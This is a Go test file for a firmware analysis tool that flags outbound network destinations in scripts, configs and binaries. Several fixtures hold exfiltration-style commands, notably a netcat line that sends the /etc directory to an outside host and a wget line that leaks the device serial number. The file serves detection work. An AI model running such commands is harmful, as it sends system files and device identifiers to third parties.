@@ -1,0 +1,65 @@
+package firmware
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestDestinationInText(t *testing.T) {
+	for _, c := range []struct {
+		name string
+		file file
+		want []string
+	}{
+		{"script posts", file{path: "etc/init.d/stat", text: "#!/bin/sh\nH=stats.metrics-of-ours.net\nwget -q -O /dev/null \"http://$H/r?sn=$SERIAL\"\n"},
+			[]string{"destination medium host=stats.metrics-of-ours.net port=80 program=wget cleartext=true"}},
+		{"script fetches over TLS", file{path: "usr/bin/x", text: "#!/bin/sh\ncurl -s https://api.vendor-cloud.io/v1/time\n"},
+			[]string{"destination low host=api.vendor-cloud.io port=443 program=curl cleartext=false"}},
+		{"netcat with a port", file{path: "bin/x.sh", text: "tar c /etc | nc collect.vendorco.cn 9000\n"},
+			[]string{"destination medium host=collect.vendorco.cn port=9000 program=nc cleartext=true"}},
+		{"time", file{path: "etc/rc", text: "#!/bin/sh\nntpd -p pool.ntp.org\n"}, []string{"destination low host=pool.ntp.org port=123 program=ntpd"}},
+		{"ini", file{path: "etc/agent.conf", text: "[cloud]\nserver=mqtt.vendorco.com:8883\n"}, []string{"destination low host=mqtt.vendorco.com port=8883"}},
+		{"uci", file{path: "etc/config/system", text: "config timeserver 'ntp'\n\tlist server '0.openwrt.pool.ntp.org'\n"}, []string{"destination low host=0.openwrt.pool.ntp.org"}},
+		{"json", file{path: "etc/a.json", text: "{\n \"upload_host\": \"up.vendorco.com\"\n}\n"}, []string{"destination low host=up.vendorco.com"}},
+		{"public address", file{path: "etc/rc.local", text: "#!/bin/sh\nnc 8.8.4.4 53 </dev/null\n"}, []string{"destination low host=8.8.4.4 port=53 program=nc cleartext=true"}},
+	} {
+		got := lines(doorsOf(t, Destination, c.file), "host", "port", "program", "cleartext")
+		if !slices.Equal(got, c.want) {
+			t.Errorf("%s:\nwant %q\ngot  %q", c.name, c.want, got)
+		}
+	}
+}
+
+func TestDestinationLeavesAlone(t *testing.T) {
+	for _, f := range []file{
+		{path: "etc/init.d/a", text: "#!/bin/sh\n# wget http://old.vendorco.com/x\n"},
+		{path: "etc/init.d/b", text: "#!/bin/sh\nwget http://www.example.com/x http://192.168.1.1/y http://127.0.0.1/ http://updates.test/\n"},
+		{path: "usr/share/doc/x/README", text: "See http://www.vendorco.com/manual\n"},
+		{path: "etc/x.xml", text: "<a xmlns=\"http://vendorco.com/schema\">\n"},
+		{path: "etc/os-release", text: "HOME_URL=\"https://www.vendorco.com/\"\n"},
+		{path: "etc/lighttpd.conf", text: "server.modules = ( \"mod_access\" )\nserver.document-root = \"/www\"\nserver.errorlog = \"/tmp/error.log\"\n"},
+		{path: "etc/hosts", text: "127.0.0.1 localhost.localdomain\n"},
+		{path: "etc/init.d/c", text: "#!/bin/sh\n. /lib/functions.sh\nlogger -t x started foo.py\n"},
+		{path: "etc/ssl/openssl.cnf", text: "oid_section = new_oids\n[ req ]\ndefault_bits = 2048\n"},
+		{path: "etc/dnsmasq.conf", text: "address=/double-click.example.net/127.0.0.1\nserver=/localnet/192.168.0.1\n"},
+		{path: "lib/libx.so.1", text: "\x7fELF\x01\x01\x00connect\x00org.freedesktop.DBus\x00libfoo.so.2\x00config.py\x00com.vendor.thing\x00http://www.gnu.org/x\x00see http://vendorco.com/help\x00"},
+		{path: "bin/noconnect", text: "\x7fELF\x01\x01\x00printf\x00stats.vendorco.com\x00"},
+	} {
+		if got := doorsOf(t, Destination, f); len(got) != 0 {
+			t.Errorf("%s: %q", f.path, lines(got, "host", "program"))
+		}
+	}
+}
+
+func TestDestinationInProgram(t *testing.T) {
+	elf := "\x7fELF\x01\x01\x00connect\x00gethostbyname\x00read\x00" + strings.Repeat("\x00code", 40) +
+		"\x00rec.vendor-metrics.net\x00http://api.vendorco.cn/u?mac=%s\x00%s: cannot connect to %s\x00"
+	for _, path := range []string{"usr/sbin/voiced", "opt/other-name"} {
+		got := lines(doorsOf(t, Destination, file{path: path, text: elf, mode: 0o755}), "host", "port", "cleartext")
+		want := []string{"destination medium host=api.vendorco.cn port=80 cleartext=true", "destination low host=rec.vendor-metrics.net cleartext=true"}
+		if !slices.Equal(got, want) {
+			t.Errorf("%s:\nwant %q\ngot  %q", path, want, got)
+		}
+	}
+}
